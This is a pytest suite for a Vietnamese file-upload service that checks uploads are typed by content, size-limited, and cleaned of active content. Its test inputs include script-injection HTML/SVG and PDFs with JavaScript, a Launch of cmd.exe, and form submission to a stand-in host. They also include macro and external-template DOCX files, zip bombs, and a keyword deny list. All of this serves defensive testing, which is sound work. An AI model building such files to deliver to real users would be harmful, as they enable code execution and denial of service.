from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from pathlib import Path

import pikepdf
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as effort
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name

from tests.foundation.files import makers
from tests.foundation.files.conftest import AT
from tinhso.foundation import files
from tinhso.foundation.errors import Unable
from tinhso.foundation.examining import __main__ as examination
from tinhso.foundation.examining import process
from tinhso.foundation.examining.verdicts import Fault, Limits, Refused
from tinhso.foundation.files import kinds, receiving
from tinhso.foundation.files.models import KeptFile
from tinhso.foundation.refs import ActorRef

pytestmark = pytest.mark.django_db
Take = Callable[..., files.StoredFile]


@pytest.fixture
def take(home: Path, an: ActorRef) -> Take:
    def receive(data: bytes, name: str = "giay-chung-sinh.pdf") -> files.StoredFile:
        return receiving.receive(data, name=name, by=an, at=AT)

    return receive


@pytest.mark.parametrize(
    ("data", "media_type"),
    [
        (makers.photo("JPEG"), "image/jpeg"),
        (makers.photo("PNG"), "image/png"),
        (makers.photo("HEIF"), "image/heic"),
        (makers.pdf(), "application/pdf"),
        (makers.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ],
)
def test_the_type_comes_from_the_content_and_the_bytes_stay(take: Take, data: bytes, media_type: str) -> None:
    kept = take(data, "la-gi.exe")

    assert kept.media_type == media_type
    assert files.read(kept.id) == data
    assert kept.scanned is files.Scanned.NOT_SCANNED


@pytest.mark.parametrize(
    "data",
    [
        b"MZ\x90\x00" + bytes(200),
        b"<html><script>alert(1)</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"GIF89a" + bytes(100),
        b"xin chao",
    ],
)
def test_other_kinds_are_refused_whatever_their_name(take: Take, data: bytes) -> None:
    with pytest.raises(files.FileRefused, match="không thuộc loại nhận được"):
        take(data, "anh.jpg")
    assert not KeptFile.objects.exists()


def test_an_empty_file_is_said_to_be_empty(take: Take) -> None:
    with pytest.raises(files.FileRefused, match="trống"):
        take(b"")


def test_a_pdf_with_a_password_is_refused_with_the_way_out(take: Take) -> None:
    locked = makers.pdf(encryption=pikepdf.Encryption(owner="chu", user="mat-khau"))

    with pytest.raises(files.FileRefused) as refusal:
        take(locked)
    assert refusal.value.message == (
        "Không mở được tệp “giay-chung-sinh.pdf”, có thể tệp đặt mật khẩu."
        " Hãy bỏ mật khẩu rồi tải lại, hoặc chụp ảnh tờ giấy."
    )


@pytest.mark.parametrize("whole", [makers.photo("JPEG", size=(600, 400)), makers.photo("PNG"), makers.pdf()])
def test_a_broken_file_is_refused(take: Take, whole: bytes) -> None:
    with pytest.raises(files.FileRefused, match="có thể tệp bị hỏng"):
        take(whole[: len(whole) // 3])


def test_a_png_of_50000_by_50000_is_refused_without_being_opened(take: Take) -> None:
    with pytest.raises(files.FileRefused, match=r"50\.000 × 50\.000 điểm ảnh"):
        take(makers.png_of(50_000, 50_000), "bom.png")


def test_two_gigabytes_are_refused_before_they_are_read(take: Take, home: Path, an: ActorRef) -> None:
    class Endless(BytesIO):
        given = 0

        def read(self, size: int | None = -1) -> bytes:
            assert size is not None
            self.given += size
            return bytes(size)

    endless = Endless()
    with pytest.raises(files.FileTooLarge, match="nhiều hơn 50 MB cho phép"):
        receiving.receive(endless, name="phim.mov", by=an, at=AT)
    assert endless.given < 51 * 1024**2


def test_more_pages_than_allowed_are_refused(take: Take) -> None:
    assert take(makers.pdf(3)).size
    with pytest.raises(files.FileRefused, match=r"1\.001 trang"):
        take(makers.pdf(1001))


def script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def chained(made: pikepdf.Pdf) -> None:
    page = made.pages[0].obj
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 9, 9],
        A=Dictionary(S=Name.URI, URI="https://angiang.gov.vn", Next=Dictionary(S=Name.Launch, F="cmd.exe")),
    )
    page.Annots = made.make_indirect(Array([made.make_indirect(link)]))


def on_opening_a_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F="https://xau.example"))


def attached(made: pikepdf.Pdf) -> None:
    made.attachments["xau.exe"] = b"MZ"


def named(made: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array(["a", Dictionary(S=Name.JavaScript, JS="this.print()")]))
    made.Root.Names = Dictionary(JavaScript=made.make_indirect(tree))


def xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))


def film(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Annots = [Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])]


ACTIVE = [script, chained, on_opening_a_page, attached, named, xfa, film]
WORDS = [b"JavaScript", b"Launch", b"SubmitForm", b"EmbeddedFile", b"XFA", b"RichMedia", b"cmd.exe"]


@pytest.mark.parametrize("change", ACTIVE)
def test_what_acts_by_itself_is_taken_out_of_a_pdf(take: Take, change: Callable[[pikepdf.Pdf], None]) -> None:
    kept = take(makers.changed(makers.pdf(), change))

    with pikepdf.open(BytesIO(files.read(kept.id))) as clean:
        everything = b" ".join(found.unparse(resolved=True) for found in clean.objects)
        assert len(clean.pages) == 1
        assert not clean.attachments
    assert not [word for word in WORDS if word in everything]


@pytest.mark.parametrize("change", ACTIVE)
def test_a_signed_pdf_is_never_rewritten(take: Take, change: Callable[[pikepdf.Pdf], None]) -> None:
    def signed(made: pikepdf.Pdf) -> None:
        made.Root.Signature = made.make_indirect(
            Dictionary(Type=Name.Sig, ByteRange=[0, 1, 2, 3], Contents=pikepdf.String(b"0"))
        )

    plain = makers.changed(makers.pdf(), signed)
    assert files.read(take(plain).id) == plain
    with pytest.raises(files.FileRefused, match="đã ký số"):
        take(makers.changed(plain, change))


def test_a_harmless_link_and_an_opening_page_stay(take: Take) -> None:
    def link(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
        made.pages[0].obj.Annots = [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[0, 0, 9, 9],
                A=Dictionary(S=Name.URI, URI="https://a.vn"),
            )
        ]

    plain = makers.changed(makers.pdf(), link)

    assert files.read(take(plain).id) == plain


def zipped(entries: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_a_zip_bomb_is_refused(take: Take) -> None:
    with pytest.raises(files.FileRefused, match="khi mở ra quá lớn"):
        take(makers.docx({"word/media/a.png": bytes(300 * 1024**2)}), "to-trinh.docx")
    with pytest.raises(files.FileRefused, match="khi mở ra quá lớn"):
        take(makers.docx({"word/media/a.png": bytes(30 * 1024**2)}), "to-trinh.docx")


def test_a_zip_that_lies_about_its_sizes_is_refused(take: Take) -> None:
    honest = makers.docx({"word/media/a.bmp": bytes(9_000_000)})
    lying = honest.replace((9_000_000).to_bytes(4, "little"), (900_000).to_bytes(4, "little"))
    assert lying != honest

    with pytest.raises(files.FileRefused):
        take(lying, "to-trinh.docx")


@pytest.mark.parametrize(
    "data",
    [
        makers.docx({"word/vbaProject.bin": b"x"}),
        makers.docx({"word/embeddings/oleObject1.bin": b"x"}),
        makers.docx({"word/activeX/activeX1.xml": b"<x/>"}),
        makers.docx(
            relations='<Relationship Id="1" Type="http://x/relationships/attachedTemplate"'
            ' Target="https://xau.example/a.dotm" TargetMode="External"/>'
        ),
        makers.docx({"word/_rels/settings.xml.rels": "<Relationships/>".encode("utf-16")}),
        makers.docx({"customXml/_rels/a.rels": b"<!DOCTYPE a [<!ENTITY b 'c'>]><Relationships/>"}),
    ],
)
def test_office_files_with_macros_or_outside_parts_are_refused(take: Take, data: bytes) -> None:
    with pytest.raises(files.FileRefused, match="macro"):
        take(data, "don.docx")


def test_an_office_file_with_a_plain_link_is_taken(take: Take) -> None:
    link = (
        '<Relationship Type="http://x/relationships/hyperlink" Target="https://a.vn" TargetMode="External"/>'
    )

    assert take(makers.docx(relations=link)).size


def test_other_archives_are_refused(take: Take) -> None:
    with pytest.raises(files.FileRefused, match="không thuộc loại"):
        take(zipped({"a.txt": b"a"}), "ho-so.zip")


SMALL = Limits(pixels=10**6, pages=100, unpacked=10**7, kinds=("pdf", "jpeg", "png", "heic", "docx"))
SEEDS = [makers.photo("JPEG"), makers.photo("PNG"), makers.photo("HEIF"), makers.pdf(), makers.docx()]


@given(seed=st.sampled_from([b"", *SEEDS]), place=st.integers(0, 4000), junk=st.binary(max_size=60))
@effort(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes_are_taken_or_refused_in_words(take: Take, seed: bytes, place: int, junk: bytes) -> None:
    data = seed[:place] + junk + seed[place + len(junk) :]
    said = ""
    try:
        assert files.read(take(data, "x").id)
    except Unable as refusal:
        said = refusal.message
    assert not said or said.startswith(("Tệp", "Không", "Ảnh"))


@given(seed=st.sampled_from([b"", *SEEDS]), place=st.integers(0, 4000), junk=st.binary(max_size=60))
@effort(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_bytes_break_the_examination(tmp_path: Path, seed: bytes, place: int, junk: bytes) -> None:
    file = tmp_path / "file"
    file.write_bytes(seed[:place] + junk + seed[place + len(junk) :])
    found: object = None
    try:
        found = examination.examine(file, kinds.of_bytes(file.read_bytes()[:4096]), SMALL)
    except Refused as refusal:
        found = refusal.fault
    assert found


def test_a_pdf_whose_streams_swell_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "bomb.pdf"
    with pikepdf.new() as made:
        made.add_blank_page()
        made.Root.Words = made.make_indirect(Array([pikepdf.String("0" * 1000) for _each in range(3000)]))
        made.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate, recompress_flate=True)
    assert file.stat().st_size < 100_000
    assert process.examine(file, media_type="application/pdf", limits=SMALL).pages == 1

    with pytest.raises(Refused):
        process.examine(file, media_type="application/pdf", limits=replace(SMALL, unpacked=1_000_000))


def test_a_parser_that_takes_too_long_ends_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(process, "WALL_FACTOR", 0.0004)
    with pytest.raises(Refused) as refusal:
        process.examine(tmp_path / "x", media_type="application/pdf", limits=SMALL)
    assert refusal.value.fault is Fault.BOMB
